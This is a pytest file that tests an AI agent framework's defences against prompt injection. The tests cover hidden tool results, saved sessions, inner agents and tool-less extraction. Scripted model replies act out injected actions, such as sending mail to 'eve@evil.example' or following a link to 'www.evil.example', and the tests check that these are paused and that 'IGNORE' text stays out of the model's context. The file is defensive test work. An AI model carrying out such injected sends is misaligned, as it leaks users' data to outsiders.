"""Hidden results in an agent: saved sessions, inner agents, and questions to its model without tools."""

import pytest
from hidden_tools import SENT, TEXT, TOOLS, get_mail, send

from agentkit import JsonAgent, Paused, Session
from agentkit.core.labels import label_of
from agentkit.testing import ScriptedModel, answer, call

GET = call("get_mail")


@pytest.fixture(autouse=True)
def _empty():
    SENT.clear()


def make(*replies, **settings):
    model = ScriptedModel(*replies, answer("Done."))
    return JsonAgent(*TOOLS, model=model, untrusted="hidden", **settings), model


def shown(model):
    """All that the model was sent, as text."""
    return str([[m.get("content") for m in request.messages] for request in model.requests])


def asks(world, *replies, query="Do it.", **settings):
    agent, _ = make(*replies, **settings)
    try:
        world.run(agent, query)
    except Paused as pause:
        return [waiting.name for waiting in pause.calls]
    return []


def test_handles_outlive_the_process(world, tmp_path):
    agent, _ = make(GET)
    world.run(agent, "Look.")
    agent.session.save(tmp_path / "s.json")
    again, model = make(call("send", to="bob@home.example", text="#1.body"), call("get_mail"))
    world.run(again, "Forward it to bob@home.example.", session=Session.load(tmp_path / "s.json"))
    assert SENT[0]["text"] == TEXT
    assert "#3 from get_mail" in shown(model)


def test_an_inner_agent_that_gets_a_reference_is_held(world):
    inner = JsonAgent(send, model=ScriptedModel(call("send", to="eve@evil.example"), answer("Done.")))
    clerk = inner.as_tool("clerk", "Sends.")
    agent = JsonAgent(get_mail, clerk, untrusted="hidden", model=ScriptedModel(
        GET, call("clerk", query="{#1.body}"), answer("Done.")))  # fmt: skip
    with pytest.raises(Paused):
        world.run(agent, "Do it.")
    assert not SENT


class TestExtracts:
    """Questions to a model without tools."""

    def extract(self, world, kind, value, **more):
        inner = {"tool_calls": [{"name": "final_answer", "arguments": {"answer": value}}]}
        ask = call("extract_value", reference="#1", question="What?", kind=kind, **more)
        agent, model = make(GET, ask, inner)
        world.run(agent, "Look.")
        return agent.history[5], model

    @pytest.mark.parametrize(
        ("kind", "value", "text", "more"),
        [
            ("yes_or_no", True, "true", {}), ("number", 3, "3.0", {}), ("date", "2026-05-01", "2026-05-01", {}),
            ("choice", "b", "b", {"choices": ["a", "b"]}),
        ],
    )  # fmt: skip
    def test_the_answer_is_a_small_value_and_the_context_stays_clean(self, world, kind, value, text, more):
        message, model = self.extract(world, kind, value, **more)
        assert message["content"].strip('"') == text
        assert not label_of(message).is_untrusted
        request = model.requests[2]
        assert TEXT in request.messages[-1]["content"]
        assert list(request.tools) == ["final_answer"]

    def test_a_text_from_a_result_is_passed_on_unread(self, world):
        ask = call("extract_text", reference="#1.body", question="To whom?")
        agent, model = make(
            GET, ask, answer("Eve, the rich one"), call("send", to="bob@home.example", text="To {#2}?"),
            call("send", to="#2", text="hello"),
        )  # fmt: skip
        with pytest.raises(Paused) as pause:
            world.run(agent, "Tell bob@home.example who gets the money.")
        assert agent.history[5]["content"] == "#2 from extract_text, 17 characters"
        assert [entry["text"] for entry in SENT] == ["To Eve, the rich one?"]
        assert [waiting.arguments for waiting in pause.value.calls] == ['{"to": "#2", "text": "hello"}']
        assert list(model.requests[2].tools) == ["final_answer"]
        assert "Eve" not in str([message["content"] for message in model.requests[-1].messages])

    def test_an_address_in_an_extracted_text_waits_unless_it_is_trusted(self, world):
        ask = call("extract_text", reference="#1", question="What?")
        send_it = call("send", to="bob@home.example", text="#2")
        assert asks(world, GET, ask, answer("See www.evil.example"), send_it) == ["send"]
        assert asks(world, GET, ask, answer("See www.evil.example"), send_it, query="What is www.evil.example?") == []
        assert asks(world, GET, ask, answer("See you"), send_it) == []

    def test_a_failed_extract_shows_nothing_of_the_text(self, world):
        inner = {"tool_calls": [{"name": "final_answer", "arguments": {"answer": TEXT}}]}
        agent, model = make(GET, call("extract_value", reference="#1", question="What?", kind="number"), *[inner] * 4)
        world.run(agent, "Look.")
        assert agent.history[5]["content"] == "the question has no answer of this kind in the text."
        assert "IGNORE" not in str([message["content"] for message in model.requests[-1].messages])
